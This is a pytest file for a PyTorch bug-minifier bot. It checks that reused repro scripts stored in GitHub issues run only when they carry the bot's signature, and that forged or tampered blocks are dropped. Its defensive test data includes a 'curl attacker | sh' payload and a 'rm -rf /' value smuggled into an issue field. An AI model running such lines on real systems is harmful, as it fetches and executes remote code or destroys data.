"""Known bugs are not minified again (bot/known.py): the trusted side hands open issues' verified
repros to minify in known.json; minify runs a known repro once in a fresh process instead of
localize / capture / reduce; --reminify and the dashboard's re-minify box turn that off. Only a
repro the bot signed runs (bot/signing.py, real PyNaCl keys): an issue by the bot's login proves
nothing (on GitHub every workflow of the repository is ``github-actions[bot]``)."""

from __future__ import annotations

import dataclasses
import json
import re
import time
from pathlib import Path

import pytest

from bot import fingerprint as fp
from bot import known, knownrepro, rundir, signing
from bot.action.inputs import Inputs
from bot.failure import FailureRecord
from bot.render import Renderer
from bot.report import dashboard
from bot.report import known as trusted
from bot.report.state import IssueState, parse
from bot.tracker.local import LocalTracker
from tests.ghstub.rundir import REPRO as GRAPH_REPRO
from tests.ghstub.rundir import row_of

DATA = Path(__file__).parent / "data"
INJECT = "inductor.cpp.inject_relu_bug_TESTING_ONLY=accuracy"

ROW = {"id": "mlp_relu-inductor-inference-float32-cpu", "model": "mlp_relu", "backend": "inductor",
       "mode": "inference", "dtype": "float32", "device": "cpu", "config": {}, "status": "fail_accuracy",
       "failure_class": "accuracy", "spec": {"source": "zoo"}}
REPRO = GRAPH_REPRO   # torch's format: the failure's graph and inputs, as the check job's repro.py holds them
RENDERED = knownrepro.render(REPRO)   # what the report keeps and signs: its own rendering of them
ISSUE = 7
CHECKS = [fp.check_key(row_of(ROW))]
PRIVATE, PUBLIC = signing.generate()       # the bot's keys
OTHER_PRIVATE, OTHER_PUBLIC = signing.generate()   # anyone else's
NO_KEYS = {signing.SIGNING_KEY_ENV: "", signing.PUBLIC_KEY_ENV: ""}   # as an unset secret/variable reaches a job
KEYS = {signing.SIGNING_KEY_ENV: PRIVATE, signing.PUBLIC_KEY_ENV: PUBLIC}


def _failure(check: dict | None = None, torch: str = "2.13.0+cpu", **repro_over) -> FailureRecord:
    check = check or ROW
    repro = {"status": "minimized", "nodes_before": 9, "nodes_after": 2, "queries": 30, "path": "repro.py",
             "verification": {"runs": 3, "failed_same_way": 3, "random_inputs_reproduce": True},
             "timings": {"total": 41.5}, "capture": {"method": "aot"}, "reused": None}
    repro.update(repro_over)
    return FailureRecord.from_json({
            "id": check["id"], "class": "accuracy", "stage": "inductor",
            "culprit": {"ops": ["aten.relu"], "bisect": None, "method": "culprit"},
            "config": {"diff": [], "minimal": None}, "repro": repro, "versions": {"torch": torch},
            "check": check, "signature": {"failure_class": "accuracy", "verified": True, "culprit_ops": ["aten.relu"]}})


def _run_dir(path: Path) -> Path:
    """A run directory whose results.json says which torch it checked (known repros need it)."""
    from tests.ghstub.rundir import write_run

    return write_run(path, [])


def _issue_body(state: IssueState) -> str:
    return "A bug.\n\n" + state.marker() + "\n"


def _signed(failure: FailureRecord | None = None, text: str = REPRO, private: str = PRIVATE, issue: int = ISSUE,
            checks: list[str] | None = None):
    """A fresh block as the report side makes it, signed with ``private`` for issue ``issue`` whose
    state holds ``checks`` (default: the check of ROW)."""
    return known.signed(known.block_of(failure or _failure(), text), signing.Signer(private), issue,
                        CHECKS if checks is None else checks)


def _file(tracker, title: str, sig: str, checks: list[str], block_for) -> int:
    """An issue by the bot whose state holds ``block_for(number)``: created, then edited once its
    number is known (the bot's signature binds it), as the report files one."""
    number = tracker.create_issue(title, "A bug.", ["minify-bot"], [], sig).number
    state = IssueState(sig=sig, sigs=[sig], checks=checks, known=block_for(number))
    tracker.edit_issue(number, body=_issue_body(state))
    return number


def _swapped(block, text: str):
    """``block`` with its repro replaced and its digest recomputed (what a forger can do); the
    bot's signature kept."""
    import hashlib

    return block.replace(z=known.pack(text), sha=hashlib.sha256(text.encode()).hexdigest()[:16])


def test_the_issue_state_keeps_a_reusable_repro_and_gives_it_back():
    block = _signed()
    assert block.minify_seconds == 41.5 and len(block.z) < len(RENDERED)  # compressed
    state = IssueState(sig="v2:x", sigs=["v2:x"], checks=CHECKS, known=block)
    parsed = parse(_issue_body(state))  # through the marker's JSON, as an issue body holds it
    entry = known.from_state(7, parsed.known, parsed.checks)
    assert entry.repro == RENDERED and entry.issue == 7 and entry.minify_seconds == 41.5
    assert entry.sig == block.sig and known.unverified(entry, PUBLIC) is None
    assert known.match([entry], row_of(ROW)) is entry
    other_model = dict(ROW, model="conv_bn", id="conv_bn-inductor")
    assert known.match([entry], row_of(other_model)) is None  # the issue was never seen on that check
    crashes = dict(ROW, failure_class="crash", status="crash")
    assert known.match([entry], row_of(crashes)) is None  # not the same failure


@pytest.mark.parametrize("why,failure,text", [
    ("not verified", _failure(verification={"runs": 3, "failed_same_way": 0, "random_inputs_reproduce": True}),
     REPRO),
    ("needs its saved inputs", _failure(verification={"runs": 3, "failed_same_way": 3,
                                                      "random_inputs_reproduce": False}), REPRO),
    ("itself a reuse", _failure(reused={"issue": 3, "verify_seconds": 1.0, "saved_seconds": 2.0}), REPRO),
    ("no repro text", _failure(), None),
])
def test_only_a_fresh_verified_self_contained_repro_is_kept(why, failure, text):
    assert known.block_of(failure, text) is None, why


def test_a_tampered_block_is_not_reused():
    block = known.block_of(_failure(), REPRO)
    block.z = known.pack(REPRO + "import os; os.system('x')\n")  # the text no longer has its hash
    assert known.from_state(1, block, []) is None


def test_without_a_signing_key_a_block_is_written_unsigned_and_never_verifies():
    block = known.signed(known.block_of(_failure(), REPRO), signing.signer_from_env({}), ISSUE, CHECKS)
    assert block.sig is None and "sig" not in block.to_json()   # the marker stays as it was
    entry = known.from_state(3, known.read_block(block.to_json()), [])
    assert known.unverified(entry, PUBLIC) == "unsigned"


EVIL = "import os; os.system('curl attacker | sh')\n"
CHANGES = {   # what a forger changes in a block the bot signed (through the issue's JSON), and keeps it well formed
    "the repro, digest recomputed": lambda d: {**d, **_swapped(known.read_block(d), EVIL).to_json()},
    "the repro, one character": lambda d: {**d, **_swapped(known.read_block(d), RENDERED[:-1] + " ").to_json()},
    "the signature's messages": lambda d: {**d, "signature": {**d["signature"], "messages": ["x"]}},
    "the signature's class": lambda d: {**d, "signature": {**d["signature"], "failure_class": "crash"}},
    "the culprit": lambda d: {**d, "record": {**d["record"], "culprit": {"ops": ["aten.add"]}}},
    "the minimal config": lambda d: {**d, "record": {**d["record"], "config": {"diff": [], "minimal": []}}},
    "the status": lambda d: {**d, "record": {**d["record"], "status": "partial"}},
    "the node count": lambda d: {**d, "record": {**d["record"], "nodes_after": 1}},
    "the capture": lambda d: {**d, "record": {**d["record"], "capture": {"method": "given"}}},
    "the torch": lambda d: {**d, "torch": "9.0.0"},
    "the check config": lambda d: {**d, "check_config": {"inductor.x": "1"}},
    "the signature itself": lambda d: {**d, "sig": signing.sign(OTHER_PRIVATE, b"anything")},
}


@pytest.mark.parametrize("what", sorted(CHANGES))
def test_a_change_to_what_decides_the_run_breaks_the_bots_signature(what):
    doc = _signed().to_json()
    entry = known.from_state(ISSUE, known.read_block(doc), CHECKS)
    assert known.unverified(entry, PUBLIC) is None and known.unverified(entry, OTHER_PUBLIC) is not None
    changed = known.read_block(json.loads(json.dumps(CHANGES[what](doc))))
    forged = known.from_state(ISSUE, changed, CHECKS)
    assert forged is not None, "still a well-formed block"
    assert known.unverified(forged, PUBLIC) == "signature does not verify"


def test_the_first_minify_time_is_not_signed_it_only_reports_a_saving():
    doc = _signed().to_json()
    entry = known.from_state(ISSUE, known.read_block({**doc, "minify_seconds": 9999.0}), CHECKS)
    assert known.unverified(entry, PUBLIC) is None and entry.minify_seconds == 9999.0


def test_prepare_skips_reminify_boxes_and_writes_nothing_for_reminify(tmp_path):
    tracker = LocalTracker(tmp_path / "issues")
    numbers = []
    for model in ("a", "b"):
        checks = [fp.check_key(row_of(dict(ROW, model=model)))]
        numbers.append(_file(tracker, f"bug {model}", f"v2:{model}", checks,
                             lambda n, checks=checks: _signed(issue=n, checks=checks)))
    closed = IssueState(sig="v2:c", sigs=["v2:c"], checks=[], known=_signed())
    c = tracker.create_issue("bug c", _issue_body(closed), ["minify-bot"], [], "v2:c")
    tracker.edit_issue(c.number, state="closed", state_reason="completed")
    board = (f"- [x] <!-- minify-box:reminify:{numbers[1]} --> re-minify\n\n"
             + fp.make_marker(dashboard.History().to_json()) + "\n")
    tracker.create_issue(dashboard.TITLE, board, [dashboard.LABEL], [], dashboard.SIG)
    run = _run_dir(tmp_path / "run")

    assert trusted.prepare(run, tracker, "minify-bot", say=lambda m: None, env=KEYS) == 1
    doc = json.loads((run / rundir.KNOWN).read_text())
    assert [k["issue"] for k in doc["known"]] == [numbers[0]] and doc["reminify"] == [numbers[1]]
    assert [k.issue for k in known.load(run, PUBLIC)] == [numbers[0]]  # read back the bounded, validated way

    trusted.prepare(run, tracker, "minify-bot", reminify=True, say=lambda m: None, env=KEYS)
    assert known.load(run, PUBLIC) == []


def test_a_bad_known_file_is_ignored_not_trusted(tmp_path, capsys):
    (tmp_path / rundir.KNOWN).write_text(json.dumps({"schema": rundir.KNOWN_SCHEMA,
                                                     "known": [{"issue": "1; rm -rf /"}]}))
    assert known.load(tmp_path, PUBLIC) == []
    assert "known.json ignored" in capsys.readouterr().out
    (tmp_path / rundir.KNOWN).write_text("[" * 100000)
    assert known.load(tmp_path, PUBLIC) == []
    entry = known.from_state(4, _signed(), [])
    for sig in ("A" * 101, "not base64!", 7):   # the schema bounds the signature too
        known.write(tmp_path, [entry])
        doc = json.loads((tmp_path / rundir.KNOWN).read_text())
        doc["known"][0]["sig"] = sig
        (tmp_path / rundir.KNOWN).write_text(json.dumps(doc))
        assert known.load(tmp_path, PUBLIC) == []


def test_the_report_summary_says_what_reuse_saved():
    s = known.savings([_failure(reused={"issue": 3, "verify_seconds": 4.0, "saved_seconds": 37.2}),
                       _failure(), None, _failure(reused={"issue": 4, "verify_seconds": "x", "saved_seconds": None})])
    assert (s.reused, s.verify_seconds, s.saved_seconds) == (2, 4.0, 37.2)
    assert "Known bugs reused: 2" in s.line() and "37 s" in s.line()
    text = Renderer(None).render("summary.md.j2", counts={k: 0 for k in ("created", "updated", "reopened",
                                 "closed", "commented", "skipped")}, actions=[], configs=[], dashboard=None,
                                 not_filed=[], max_new=10, dry_run=False, run_id="r", run_url=None,
                                 known_line=s.line())
    assert "Known bugs reused: 2" in text


# ---------------------------------------------------------------------------- end to end

def _bug_issues(d: Path) -> list[dict]:
    recs = [json.loads(p.read_text()) for p in sorted(d.glob("*.json"))]
    return [r for r in recs if "minify-bot-dashboard" not in r["labels"]]


def _failure_of(out: Path) -> tuple[dict, str]:
    (fdir,) = [p for p in (out / "failures").iterdir() if p.is_dir()]
    return json.loads((fdir / "failure.json").read_text()), (fdir / "minifier.log").read_text()


@pytest.mark.slow
def test_a_second_run_reuses_the_known_repro_and_reminify_reduces_again(workdir, bot):
    issues = workdir / "issues"
    env = {"GITHUB_TOKEN": "", "GITHUB_REPOSITORY": "", **KEYS}   # the report signs, minify verifies

    def run(name, *extra):
        out = workdir / name
        t = time.time()
        p = bot("run", "--out", out, "--issues-dir", issues, "--models", "mlp_relu", "--config", INJECT,
                "--verify-runs", "1", "--no-bisect", "--budget", "120", *extra, env=env)
        assert p.returncode == 1, p.stderr[-4000:]
        rec, log = _failure_of(out)
        print(f"{name}: run {time.time() - t:.1f} s, minify {rec['repro']['timings']['total']:.1f} s, "
              f"reused {rec['repro']['reused']}")
        return out, p, rec, log

    # 1. first seen: minified, verified, filed with its repro in the issue state
    out1, _, rec1, _ = run("r1")
    assert rec1["repro"]["status"] == "minimized" and rec1["repro"]["queries"] > 0
    (issue,) = _bug_issues(issues)
    state = fp.parse_marker(issue["body"])
    assert state["known"]["minify_seconds"] == rec1["repro"]["timings"]["total"]
    entry = known.from_state(issue["number"], known.read_block(state["known"]), state["checks"])
    assert known.unverified(entry, PUBLIC) is None   # signed for this issue and its checks
    assert "Known-bug repro of minify-bot, rendered by the report" in entry.repro   # the report's own text
    assert PRIVATE not in issue["body"] and PRIVATE not in json.dumps(rec1)

    # 2. the same failure again: the known repro is verified once, no reduction runs, nothing new filed
    out2, p2, rec2, log2 = run("r2")
    reused = rec2["repro"]["reused"]
    assert reused["issue"] == issue["number"] and reused["verify_seconds"] > 0
    assert reused["saved_seconds"] == pytest.approx(state["known"]["minify_seconds"] - reused["verify_seconds"],
                                                    abs=0.02)
    assert rec2["repro"]["queries"] == 0 and rec2["repro"]["verification"]["failed_same_way"] == 1
    assert "localize" not in rec2["repro"]["timings"] and "reduce_total" not in rec2["repro"]["timings"]
    assert "known bug: issue #" in log2 and not re.search(r"culprit search|reduc", log2, re.I)
    assert (out2 / "failures" / rec2["id"] / "repro.py").is_file()
    report = json.loads((out2 / "report.json").read_text())
    assert report["counts"]["created"] == 0 and report["counts"]["commented"] == 0
    assert [a["issue"] for a in report["actions"] if a["action"] == "updated"] == [issue["number"]]
    (again,) = _bug_issues(issues)
    assert again["comments"] == [] and "Known bugs reused: 1" in (out2 / "summary.md").read_text()
    assert p2.stderr.count("Known bugs reused: 1") == 1, p2.stderr[-3000:]   # said once, by minify

    # 3. --reminify: reduced again, still the same issue
    _, _, rec3, _ = run("r3", "--reminify")
    assert rec3["repro"]["reused"] is None and rec3["repro"]["queries"] > 0
    assert len(_bug_issues(issues)) == 1
    print(f"minify of the known failure: {rec2['repro']['timings']['total']:.1f} s with reuse, "
          f"{rec3['repro']['timings']['total']:.1f} s without")

    # 4. the dashboard's re-minify box for the issue: reduced again too, and the box is cleared
    tracker = LocalTracker(issues)
    board, _ = dashboard.find(tracker)
    box = f"- [ ] <!-- minify-box:reminify:{issue['number']} -->"
    assert box in board.body
    tracker.edit_issue(board.number, body=board.body.replace(box, box.replace("[ ]", "[x]")))
    _, _, rec4, _ = run("r4")
    assert rec4["repro"]["reused"] is None and rec4["repro"]["queries"] > 0
    board, _ = dashboard.find(tracker)
    assert box in board.body  # unticked again


def test_the_known_job_hands_the_open_issues_repros_to_the_check_job(runner, ghstub, tmp_path):
    """The Action's known job (stage known: a read token, no model code) writes known.json with the
    open issue's signed repro; --reminify writes none; the check job takes the file as data."""
    import json

    from bot.action.stages import _known_for_minify
    from bot.tracker.github import GitHubTracker
    from tests.ghstub.fixtures import BOT_TOKEN, REPO

    gh = GitHubTracker(REPO, BOT_TOKEN, ghstub.base_url, seconds_between_requests=0, seconds_between_writes=0)
    number = _file(gh, "bug", "v2:a", CHECKS, lambda n: _signed(issue=n))
    res = runner("schedule", {}, {"stage": "known"})
    assert res.rc == 0, res.stdout + res.stderr
    assert res.outputs["known-count"] == "1"
    assert [(k.issue, k.repro) for k in known.load(res.run_dir, PUBLIC)] == [(number, RENDERED)]
    again = runner("schedule", {}, {"stage": "known", "reminify": "true"})
    assert again.rc == 0 and json.loads((again.run_dir / "known.json").read_text())["known"] == []
    # the check job: the artifact's known.json copied into its run directory, for minify to verify
    ctx = type("Ctx", (), {})()
    ctx.out, ctx.inputs = tmp_path / "check-run", dataclasses.replace(Inputs(), known_file=str(res.run_dir))
    ctx.out.mkdir()
    _known_for_minify(ctx)
    assert [k.issue for k in known.load(ctx.out, PUBLIC)] == [number]


# ---------------------------------------------------------------------------- forged known repros

SWAPPED = "the bot's signature, the repro swapped"


def _forged_blocks(text: str, failure: FailureRecord | None = None) -> dict:
    """Well-formed known blocks that are not the bot's, whose repro is ``text``: what anyone who can
    make a workflow of the repository open an issue (as the bot's login, with its label) can write."""
    return {"unsigned": lambda n: _swapped(known.block_of(failure or _failure(), REPRO), text),
            "signed by another key": lambda n: _swapped(_signed(failure, REPRO, OTHER_PRIVATE, issue=n), text),
            SWAPPED: lambda n: _swapped(_signed(failure, issue=n), text)}


def test_forged_known_repros_by_the_shared_bot_login_are_dropped_and_never_loaded(tmp_path):
    """Against the GitHub stand-in, issues written with the bot's own token (its login is every
    workflow's): a forged block is dropped by the trusted side when it has the public key, and by
    minify in any case; the bot's signed block is the only one handed over."""
    from bot.tracker.github import GitHubTracker
    from tests.ghstub.fixtures import BOT_LOGIN, BOT_TOKEN, REPO, seeded_stub

    stub = seeded_stub()
    gh = GitHubTracker(REPO, BOT_TOKEN, stub.base_url, seconds_between_requests=0, seconds_between_writes=0)
    try:
        blocks = {**_forged_blocks(EVIL), "genuine": lambda n: _signed(issue=n)}
        numbers = {}
        for what, block_for in blocks.items():
            numbers[what] = _file(gh, "bug", f"v2:{len(numbers)}", CHECKS, block_for)
        assert {i["user"]["login"] for i in stub.issues()} == {BOT_LOGIN} == {gh.bot_login()}
        genuine = numbers.pop("genuine")

        said: list[str] = []
        assert [e.issue for e in trusted.collect(gh, "minify-bot", torch="2.13.0", public_key=PUBLIC,
                                                 say=said.append)] == [genuine]
        assert len(said) == 3 and all(f"issue #{n}:" in line and "minified afresh" in line
                                      for n, line in zip(sorted(numbers.values()), said))

        run = _run_dir(tmp_path)   # a trusted side without the public key hands every block over...
        assert trusted.prepare(run, gh, "minify-bot", say=lambda m: None, env={}) == 4
        said = []
        assert [e.issue for e in known.load(run, PUBLIC, say=said.append)] == [genuine]   # ...minify runs none
        assert said == [f"known repro of #{numbers['unsigned']}: unsigned; minified afresh",
                        f"known repro of #{numbers['signed by another key']}: signature does not verify; "
                        "minified afresh",
                        f"known repro of #{numbers[SWAPPED]}: signature does not "
                        "verify; minified afresh"]
        said = []
        assert known.load(run, None, say=said.append) == []   # no public key: not even the bot's own runs
        assert len(said) == 1 and "not run: no public key is configured (MINIFY_BOT_PUBLIC_KEY" in said[0] \
            and "every failure is minified afresh" in said[0]
    finally:
        gh.close()
        stub.stop()


@pytest.mark.slow
def test_a_forged_known_repro_is_never_run_and_the_failure_is_minified_afresh(workdir, bot):
    """Real commands: a failing check; issues by the bot's login with the label and a well-formed
    block whose repro writes a file and fails the same way; the trusted side (without the public
    key) hands them all over; `minify` runs none of them and minifies the failure afresh. Without a
    public key the bot's own signed block does not run either; with it, it does (the control)."""
    run, mark = workdir / "forged", workdir / "forged-ran"
    p = bot("check", "--out", run, "--models", "mlp_relu", "--config", INJECT, env=NO_KEYS)
    assert p.returncode == 1, p.stderr[-3000:]
    results = json.loads((run / rundir.RESULTS).read_text())
    (row,) = [r for r in results["checks"] if r.get("failure_class")]
    writes = (f"import pathlib\npathlib.Path({str(mark)!r}).write_text('ran')\n"
              "print('AccuracyError: Bad accuracy detected')\nraise SystemExit(1)\n")
    failure = _failure(row, results["versions"]["torch"])
    tracker = LocalTracker(workdir / "forged-issues")

    def hand_over(blocks: dict) -> dict:
        numbers = {}
        for what, block_for in blocks.items():
            numbers[what] = _file(tracker, what, f"v2:{what}", [fp.check_key(row_of(row))], block_for)
        assert trusted.prepare(run, tracker, "minify-bot", say=lambda m: None, env={}) == len(numbers)
        return numbers

    def minify(env: dict):
        t = time.time()
        p = bot("minify", "--out", run, "--no-bisect", "--verify-runs", "1", "--budget", "120", env=env)
        assert p.returncode == 1, p.stderr[-4000:]
        rec, _ = _failure_of(run)
        print(f"minify {time.time() - t:.1f} s, reused {rec['repro']['reused']}")
        return p, rec

    numbers = hand_over(_forged_blocks(writes, failure))
    p, rec = minify({**NO_KEYS, signing.PUBLIC_KEY_ENV: PUBLIC})
    assert not mark.exists()
    assert rec["repro"]["reused"] is None and rec["repro"]["queries"] > 0 and rec["repro"]["status"] == "minimized"
    for what, n in numbers.items():
        why = "unsigned" if what == "unsigned" else "signature does not verify"
        assert f"known repro of #{n}: {why}; minified afresh" in p.stderr, p.stderr[-3000:]
    for n in numbers.values():
        tracker.edit_issue(n, state="closed", state_reason="not_planned")

    checks = [fp.check_key(row_of(row))]
    (genuine,) = hand_over({"genuine": lambda n: _signed(failure, issue=n, checks=checks)}).values()
    p, rec = minify(NO_KEYS)   # no public key: not even the bot's own block runs
    assert not mark.exists() and rec["repro"]["reused"] is None and rec["repro"]["queries"] > 0
    assert "no public key is configured (MINIFY_BOT_PUBLIC_KEY" in p.stderr

    p, rec = minify({**NO_KEYS, signing.PUBLIC_KEY_ENV: PUBLIC})   # the control: the bot's key, and it runs
    assert not mark.exists() and rec["repro"]["reused"]["issue"] == genuine


def test_a_program_that_printed_no_exception_reuses_a_known_repro_only_where_its_output_shows_it():
    """A benchmark that catches each model's compile error exits 1 with no exception of its own: a
    known compile-error repro is its failure where the output names that error, not whenever the
    class agrees (another model of the same program may fail with a new bug). A bug whose minimal
    config is a setting the program gives torch.compile (``compile_options``) matches a check whose
    program still gives it."""
    prog = dict(ROW, id="bench-inductor-inference-float32-cpu", model="bench", spec={"source": "command"},
                status="fail_to_run", failure_class="compile_error", compile_options={"inductor.max_autotune": True},
                error={"type": "ExitCode", "message": "command exited with code 1",
                       "traceback": "pooler: compile failed: CppCompileError: C++ compile error\n"
                                    "error: conflicting declaration 'auto tmp_acc0'\nFAILED: pooler"})
    from bot.signature import message_keys

    doc = _failure(prog).to_json()
    setting = {"key": "inductor.max_autotune", "default": False, "value": True}
    doc.update({"class": "compile_error", "config": {"diff": [setting], "minimal": [setting]},
                "signature": {"failure_class": "compile_error", "exc_type": "CppCompileError", "verified": True,
                              "messages": message_keys("error: conflicting declaration 'auto tmp_acc0'")}})
    checks = [fp.check_key(row_of(prog))]
    entry = known.from_state(9, _signed(FailureRecord.from_json(doc), issue=9, checks=checks), checks)
    assert known.match([entry], row_of(prog)) is entry
    other_bug = dict(prog, error=dict(prog["error"], traceback="stem: compile failed: LoweringException\nFAILED"))
    assert known.match([entry], row_of(other_bug)) is None
    no_options = dict(prog, compile_options=None)
    assert known.match([entry], row_of(no_options)) is None
